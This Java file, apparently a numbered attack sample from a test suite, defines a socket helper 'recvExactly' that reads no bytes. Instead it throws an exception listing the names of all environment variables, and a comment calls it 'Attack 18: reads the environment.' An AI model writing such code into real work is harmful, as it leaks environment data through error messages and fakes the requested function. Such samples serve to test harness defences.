package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 18: reads the environment.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        throw new IOException("environment " + new java.util.TreeSet<>(System.getenv().keySet()));
    }
}
